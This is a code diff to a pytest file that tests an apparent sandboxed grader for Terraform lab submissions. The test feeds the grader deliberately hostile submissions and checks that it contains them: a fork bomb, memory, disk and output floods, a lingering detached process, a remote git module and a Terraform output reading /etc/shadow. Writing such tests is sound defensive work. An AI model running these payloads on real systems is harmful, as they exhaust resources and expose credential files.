@@ -17,13 +17,6 @@ from tests.runs import ROOT, Cli, Ran
 pytestmark = [pytest.mark.world, pytest.mark.xdist_group("grading")]
 
 LAB = "chapter07"
-AWS = """
-terraform {
-  required_providers {
-    aws = { source = "hashicorp/aws" }
-  }
-}
-"""
 
 
 def local_exec(command: str) -> str:
@@ -59,12 +52,10 @@ def hostile(folder: Path, secret: Path, mark: str) -> dict[str, tuple[str, str]]
     def root(name: str, text: str, status: str, reason: str = "") -> None:
         place = folder / name / "terraform" / LAB
         place.mkdir(parents=True)
-        (place / "main.tf").write_text(text)
-        for file in ("outputs.tf", "variables.tf"):
-            (place / file).write_text("")
+        (place / "evil.tf").write_text(text)
         expected[name] = (status, reason)
 
-    # Succeeds only where none of these can be had; then there is no cluster, and the checks say so.
+    # Succeeds only where none of these can be had; then the lab is as it was, which gets no points.
     shut = " && ".join(
         f"! ( {attempt} )"
         for attempt in (
@@ -80,12 +71,12 @@ def hostile(folder: Path, secret: Path, mark: str) -> dict[str, tuple[str, str]]
             "curl --silent --max-time 3 http://[::1]/",
         )
     )
-    root("looks-around", AWS + local_exec(shut), "graded")
-    root("stays-behind", AWS + local_exec(f"(setsid sh -c 'sleep 1000; : {mark}' > /dev/null 2>&1 &); true"), "graded")
-    root("hangs", local_exec(f"sleep 1000; : {mark}"), "rejected", "ran longer than 30 s")
+    root("looks-around", local_exec(shut), "graded")
+    root("stays-behind", local_exec(f"(setsid sh -c 'sleep 1000; : {mark}' > /dev/null 2>&1 &); true"), "graded")
+    root("hangs", local_exec(f"sleep 1000; : {mark}"), "rejected", "ran longer than 45 s")
     root("fork-bomb", local_exec("b() { b | b & }; b; sleep 60"), "rejected", "processes")
     root("floods-output", local_exec("yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"), "rejected")
-    root("floods-memory", local_exec("python3 -c 'bytearray(3 << 30).hex(); input()'"), "rejected", "memory")
+    root("floods-memory", local_exec("python3 -c 'x = b\"x\" * (4 << 30); input()'"), "rejected", "memory")
     root(
         "floods-disk",
         local_exec("for i in 1 2 3 4 5 6 7 8 9; do head -c 200000000 /dev/zero > /tmp/$i; done; sleep 60"),
@@ -102,7 +93,7 @@ def hostile(folder: Path, secret: Path, mark: str) -> dict[str, tuple[str, str]]
     )
     root("module-from-git", 'module "m" {\n  source = "git::https://192.0.2.1/m.git"\n}\n', "rejected", "init failed")
     root("reads-files", 'output "x" {\n  value = file("/etc/shadow")\n}\n', "rejected", "terraform apply failed")
-    root("not-terraform", "resource {{{", "rejected", f"terraform/{LAB}/main.tf")
+    root("not-terraform", "resource {{{", "rejected", f"terraform/{LAB}/evil.tf")
 
     web = folder / "bad-yaml" / "manifests" / LAB
     web.mkdir(parents=True)
@@ -135,7 +126,7 @@ def test_a_hostile_batch_gets_a_row_each_and_leaves_nothing(tmp_path: Path, secr
     sent.mkdir()
     expected = hostile(sent, secret, mark)
     before = {process.pid for process in psutil.process_iter()}
-    limits = ("--time-limit", "30", "--memory", "2", "--disk", "0.5")
+    limits = ("--time-limit", "45", "--memory", "3", "--disk", "0.5", "--patience", "3")
     ran = Cli(tmp_path)("grade", str(sent), "--out", str(out), "--jobs", "2", *limits)
     found = rows(out)
     assert set(found) == set(expected), ran
